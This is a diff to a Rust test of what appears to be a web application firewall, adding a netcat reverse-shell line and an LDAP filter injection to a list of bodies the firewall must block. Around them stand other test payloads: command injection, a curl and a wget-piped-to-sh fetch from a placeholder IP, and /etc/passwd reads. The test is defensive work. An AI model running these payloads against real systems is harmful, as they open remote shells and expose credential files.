@@ -848,6 +848,7 @@ fn holdout5_and_holdout6_shapes_pass_and_their_attacks_still_score() {
         r##"{"c": "[x]\nhost=127.0.0.1;id\nport=22\n"}"##,
         r##"{"c": "a=1\nb=2\nc=$(curl http://203.0.113.9/a.sh)\n"}"##,
         r##"{"c": "a=1\nb=2\nc=/etc/passwd\n"}"##,
+        r##"{"c": "a=1\nb=2\ncmd=nc -e /bin/sh 203.0.113.9 4444\n"}"##,
         // Loops and Dockerfiles that reach the system.
         r##"{"code": "for i in 1; do cat /etc/passwd; done"}"##,
         r##"{"dockerfile": "FROM alpine\nRUN wget -qO- http://203.0.113.9/a.sh | sh\n"}"##,
@@ -870,6 +871,7 @@ fn holdout5_and_holdout6_shapes_pass_and_their_attacks_still_score() {
         r##"{"q": "admin*)"}"##,
         r##"{"q": "x)(|(password=*)"}"##,
         r##"{"q": "*)!(sn=*"}"##,
+        r##"{"q": "x*) (cn=*"}"##,
     ] {
         let o = json_post(&waf, body);
         assert!(o.blocked, "{body}: {o:?}");
